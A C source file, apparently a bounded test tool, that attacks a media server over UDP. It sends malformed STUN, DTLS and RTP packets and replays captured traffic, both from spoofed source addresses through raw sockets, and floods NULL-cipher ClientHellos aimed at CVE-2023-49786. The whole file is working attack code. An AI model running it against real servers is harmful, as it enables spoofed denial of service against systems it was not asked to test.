/* attacker.c - hostile datagrams, bounded in count and rate
 *
 *     attacker garbage --target ADDRESS:PORT --from NET --count N --rate PPS --seed S
 *     attacker replay  --target ADDRESS:PORT --from NET --count N --seed S
 *     attacker hello   --target ADDRESS:PORT --from ADDRESS --rate PPS --seed S
 *
 * garbage sends the kinds below from invented addresses NET.0 to NET.255 through a raw socket and
 * ends after N packets. replay listens for N real packets of media and DTLS to the target and sends
 * each again, unchanged, from such an address. hello sends ClientHellos that offer only NULL
 * ciphers from its own sockets at ADDRESS, until its input ends. Both print one line of JSON at the
 * end: how many were sent and, for hello, how many bytes came back. */
#include <arpa/inet.h>
#include <errno.h>
#include <glib.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

enum {
	MAX_PAYLOAD = 1400,
	SOCKETS = 16,    /* ports that hello uses in turn */
	BURST_MS = 10,   /* packets of this long are sent at once, then it waits */
	QUIET_MS = 5000, /* replay gives up when nothing is said for so long */
};

typedef struct Attack {
	GRand *rand;
	struct sockaddr_in target;
	uint32_t from; /* host order */
	uint64_t sent, back;
} Attack;

/* Every kind writes a payload and returns its length. */
typedef size_t (*Kind)(Attack *attack, uint8_t *out);

static void noise(Attack *attack, uint8_t *out, size_t length)
{
	for (size_t i = 0; i < length; i++)
		out[i] = (uint8_t)g_rand_int(attack->rand);
}

static void put16(uint8_t *out, unsigned value)
{
	out[0] = (uint8_t)(value >> 8);
	out[1] = (uint8_t)value;
}

static size_t kind_noise(Attack *attack, uint8_t *out)
{
	size_t length = (size_t)g_rand_int_range(attack->rand, 0, MAX_PAYLOAD);

	noise(attack, out, length);
	return length;
}

/* A binding request with attributes of the given total length. */
static size_t stun(Attack *attack, uint8_t *out, unsigned type, size_t attributes)
{
	put16(out, type);
	put16(out + 2, (unsigned)attributes);
	memcpy(out + 4, "\x21\x12\xa4\x42", 4);
	noise(attack, out + 8, 12);
	return 20 + attributes;
}

static size_t kind_stun_bare(Attack *attack, uint8_t *out)
{
	return stun(attack, out, 0x0001, 0);
}

/* USERNAME, PRIORITY and a MESSAGE-INTEGRITY that is made up. */
static size_t kind_stun_forged(Attack *attack, uint8_t *out)
{
	size_t length = stun(attack, out, 0x0001, 12 + 8 + 24);
	uint8_t *at = out + 20;

	put16(at, 0x0006);
	put16(at + 2, 8);
	memcpy(at + 4, "abcd:efg", 8);
	put16(at + 12, 0x0024);
	put16(at + 14, 4);
	noise(attack, at + 16, 4);
	put16(at + 20, 0x0008);
	put16(at + 22, 20);
	noise(attack, at + 24, 20);
	return length;
}

/* Attributes of length 0 and beyond the end: loops and over-reads. */
static size_t kind_stun_torn(Attack *attack, uint8_t *out)
{
	size_t attributes = (size_t)g_rand_int_range(attack->rand, 1, 250) * 4;
	size_t length = stun(attack, out, 0x0001, attributes);

	memset(out + 20, 0, attributes);
	put16(out + 22, 0xffff);
	return length - (size_t)g_rand_int_range(attack->rand, 0, 4);
}

static size_t kind_stun_answer(Attack *attack, uint8_t *out)
{
	return stun(attack, out, g_rand_boolean(attack->rand) ? 0x0101 : 0x0111, 0);
}

static size_t record(Attack *attack, uint8_t *out, uint8_t type, size_t length)
{
	memset(out, 0, 13);
	out[0] = type;
	put16(out + 1, 0xfefd);
	put16(out + 9, g_rand_int(attack->rand) & 0xff);
	put16(out + 11, (unsigned)length);
	return 13 + length;
}

/* A whole ClientHello that offers only ciphers without encryption (CVE-2023-49786). */
static size_t kind_hello(Attack *attack, uint8_t *out)
{
	static const uint16_t suites[] = { 0x0001, 0x0002, 0x003b, 0xc001, 0xc006, 0xc010 };
	uint8_t *body = out + 13 + 12;
	size_t n = 0;

	put16(body + n, 0xfefd);
	noise(attack, body + 2, 32);
	n += 34;
	body[n++] = 0; /* session id */
	body[n++] = 0; /* cookie */
	put16(body + n, sizeof suites);
	n += 2;
	for (size_t i = 0; i < G_N_ELEMENTS(suites); i++, n += 2)
		put16(body + n, suites[i]);
	body[n++] = 1;
	body[n++] = 0; /* no compression */
	memset(out + 13, 0, 12);
	out[13] = 1; /* client_hello */
	put16(out + 13 + 2, (unsigned)n);
	put16(out + 13 + 10, (unsigned)n);
	size_t length = record(attack, out, 22, 12 + n);
	put16(out + 9, 0);
	return length;
}

static size_t kind_hello_fragment(Attack *attack, uint8_t *out)
{
	size_t length = kind_hello(attack, out);

	put16(out + 13 + 2, 4000); /* the whole is said to be longer than the fragment */
	return length;
}

static size_t kind_alert(Attack *attack, uint8_t *out)
{
	size_t length = record(attack, out, 21, 2);

	out[13] = 2;
	out[14] = (uint8_t)g_rand_int_range(attack->rand, 0, 120);
	return length;
}

static size_t kind_dtls_noise(Attack *attack, uint8_t *out)
{
	size_t length = (size_t)g_rand_int_range(attack->rand, 1, 1200);
	uint8_t type = (uint8_t)g_rand_int_range(attack->rand, 20, 26);

	noise(attack, out + 13, length);
	return record(attack, out, type, length);
}

static size_t kind_rtp(Attack *attack, uint8_t *out)
{
	size_t length = (size_t)g_rand_int_range(attack->rand, 12, 1200);

	noise(attack, out, length);
	out[0] = 0x80 | (out[0] & 0x3f);
	out[1] = 96 + (out[1] & 0x0f);
	return length;
}

static size_t kind_rtcp(Attack *attack, uint8_t *out)
{
	size_t words = (size_t)g_rand_int_range(attack->rand, 1, 40);

	noise(attack, out, words * 4 + 18);
	out[0] = 0x80 | (out[0] & 0x1f);
	out[1] = (uint8_t)g_rand_int_range(attack->rand, 200, 208);
	put16(out + 2, (unsigned)words - 1);
	return words * 4 + 18;
}

static size_t kind_channel_data(Attack *attack, uint8_t *out)
{
	noise(attack, out, 100);
	out[0] = 0x40;
	return 100;
}

static const Kind kinds[] = { kind_noise, kind_stun_bare, kind_stun_forged, kind_stun_torn,
	kind_stun_answer, kind_hello, kind_hello_fragment, kind_alert, kind_dtls_noise, kind_rtp,
	kind_rtcp, kind_channel_data };

/* The kernel fills in the IP checksum; a UDP checksum of 0 says that there is none. */
static bool send_spoofed(Attack *attack, int raw, const uint8_t *payload, size_t length)
{
	uint8_t packet[sizeof(struct iphdr) + sizeof(struct udphdr) + MAX_PAYLOAD];
	size_t total = sizeof(struct iphdr) + sizeof(struct udphdr) + length;
	struct iphdr ip = { .version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP };
	struct udphdr udp = { .dest = attack->target.sin_port };

	ip.tot_len = htons((uint16_t)total);
	ip.saddr = htonl((attack->from & ~0xffu) | (g_rand_int(attack->rand) & 0xff));
	ip.daddr = attack->target.sin_addr.s_addr;
	udp.source = htons((uint16_t)g_rand_int_range(attack->rand, 1024, 65536));
	udp.len = htons((uint16_t)(sizeof udp + length));
	memcpy(packet, &ip, sizeof ip);
	memcpy(packet + sizeof ip, &udp, sizeof udp);
	memcpy(packet + sizeof ip + sizeof udp, payload, length);
	return sendto(raw, packet, total, 0, (struct sockaddr *)&attack->target,
		       sizeof attack->target) == (ssize_t)total;
}

static void wait_ms(int ms)
{
	poll(NULL, 0, ms);
}

static int garbage(Attack *attack, uint64_t count, unsigned rate)
{
	int raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	unsigned burst = MAX(rate * BURST_MS / 1000, 1u);
	uint8_t payload[MAX_PAYLOAD];
	uint64_t refused = 0;

	if (raw < 0) {
		fprintf(stderr, "attacker: raw socket: %s\n", g_strerror(errno));
		return 1;
	}
	for (uint64_t i = 0; i < count; i++) {
		size_t length = kinds[i % G_N_ELEMENTS(kinds)](attack, payload);
		if (send_spoofed(attack, raw, payload, length))
			attack->sent++;
		else
			refused++;
		if (i % burst == burst - 1)
			wait_ms(BURST_MS);
	}
	close(raw);
	printf("{\"sent\":%" G_GUINT64_FORMAT ",\"refused\":%" G_GUINT64_FORMAT "}\n", attack->sent,
		refused);
	return 0;
}

static bool from_us(const Attack *attack, const struct iphdr *ip)
{
	return (ntohl(ip->saddr) & ~0xffu) == (attack->from & ~0xffu);
}

/* STUN is left out: a check with the right key may come from anywhere. */
static bool is_media(const uint8_t *payload, size_t length)
{
	return length > 0 && payload[0] >= 20;
}

static int replay(Attack *attack, uint64_t count)
{
	int out = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
	int in = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_UDP);
	struct pollfd heard = { .fd = in, .events = POLLIN };
	uint8_t packet[2048];

	if (in < 0 || out < 0) {
		fprintf(stderr, "attacker: raw socket: %s\n", g_strerror(errno));
		return 1;
	}
	while (attack->sent < count && poll(&heard, 1, QUIET_MS) == 1) {
		ssize_t got = recv(in, packet, sizeof packet, 0);
		const struct iphdr *ip = (const struct iphdr *)packet;
		size_t head = got > 0 ? ip->ihl * 4u + sizeof(struct udphdr) : 0;
		if (got < 0 || (size_t)got < head || from_us(attack, ip))
			continue;
		const struct udphdr *udp = (const struct udphdr *)(packet + ip->ihl * 4u);
		size_t length = MIN((size_t)got - head, (size_t)MAX_PAYLOAD);
		if (udp->dest == attack->target.sin_port && is_media(packet + head, length) &&
			send_spoofed(attack, out, packet + head, length))
			attack->sent++;
	}
	close(in);
	close(out);
	printf("{\"sent\":%" G_GUINT64_FORMAT "}\n", attack->sent);
	return attack->sent < count ? 1 : 0;
}

static void take_back(Attack *attack, const int *sockets)
{
	uint8_t buffer[2048];

	for (int i = 0; i < SOCKETS; i++) {
		ssize_t n;
		while ((n = recv(sockets[i], buffer, sizeof buffer, MSG_DONTWAIT)) >= 0)
			attack->back += (uint64_t)n + 1; /* an empty datagram is an answer too */
	}
}

static int hello(Attack *attack, unsigned rate)
{
	unsigned burst = MAX(rate * BURST_MS / 1000, 1u);
	struct pollfd input = { .fd = STDIN_FILENO, .events = POLLIN };
	struct sockaddr_in own = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(attack->from) };
	int sockets[SOCKETS];
	uint8_t payload[MAX_PAYLOAD];

	for (int i = 0; i < SOCKETS; i++) {
		sockets[i] = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
		if (sockets[i] < 0 || bind(sockets[i], (struct sockaddr *)&own, sizeof own) < 0) {
			fprintf(stderr, "attacker: bind: %s\n", g_strerror(errno));
			return 1;
		}
	}
	while (poll(&input, 1, BURST_MS) == 0) {
		for (unsigned i = 0; i < burst; i++) {
			size_t length = kind_hello(attack, payload);
			int s = sockets[attack->sent % SOCKETS];
			if (sendto(s, payload, length, 0, (struct sockaddr *)&attack->target,
				    sizeof attack->target) == (ssize_t)length)
				attack->sent++;
		}
		take_back(attack, sockets);
	}
	take_back(attack, sockets);
	for (int i = 0; i < SOCKETS; i++)
		close(sockets[i]);
	printf("{\"sent\":%" G_GUINT64_FORMAT ",\"back\":%" G_GUINT64_FORMAT "}\n", attack->sent,
		attack->back);
	return 0;
}

int main(int argc, char **argv)
{
	g_autofree char *target = NULL;
	g_autofree char *from = NULL;
	int count = 1000, rate = 1000, seed = 1;
	const GOptionEntry entries[] = {
		{ "target", 0, 0, G_OPTION_ARG_STRING, &target, "whom to attack", "ADDRESS:PORT" },
		{ "from", 0, 0, G_OPTION_ARG_STRING, &from, "whose address to use", "ADDRESS" },
		{ "count", 0, 0, G_OPTION_ARG_INT, &count, "packets in all (garbage)", "N" },
		{ "rate", 0, 0, G_OPTION_ARG_INT, &rate, "packets a second", "PPS" },
		{ "seed", 0, 0, G_OPTION_ARG_INT, &seed, "of the random bytes", "S" },
		{ NULL },
	};
	g_autoptr(GError) error = NULL;
	g_autoptr(GOptionContext) options = g_option_context_new("garbage|replay|hello");
	struct in_addr address;

	g_option_context_add_main_entries(options, entries, NULL);
	if (!g_option_context_parse(options, &argc, &argv, &error) || argc != 2 || !target ||
		!from || count < 1 || rate < 1) {
		fprintf(stderr, "attacker: %s\n",
			error ? error->message : "see the head of attacker.c");
		return 2;
	}
	char *colon = strrchr(target, ':');
	Attack attack = { .target.sin_family = AF_INET };
	if (colon) {
		*colon = '\0';
		attack.target.sin_port = htons((uint16_t)atoi(colon + 1));
	}
	if (!colon || inet_pton(AF_INET, target, &attack.target.sin_addr) != 1 ||
		inet_pton(AF_INET, from, &address) != 1) {
		fprintf(stderr, "attacker: addresses are numbers: 10.99.0.1:8444\n");
		return 2;
	}
	attack.from = ntohl(address.s_addr);
	attack.rand = g_rand_new_with_seed((guint32)seed);
	int status = 2;
	if (strcmp(argv[1], "hello") == 0)
		status = hello(&attack, (unsigned)rate);
	else if (strcmp(argv[1], "replay") == 0)
		status = replay(&attack, (uint64_t)count);
	else if (strcmp(argv[1], "garbage") == 0)
		status = garbage(&attack, (uint64_t)count, (unsigned)rate);
	g_rand_free(attack.rand);
	return status;
}
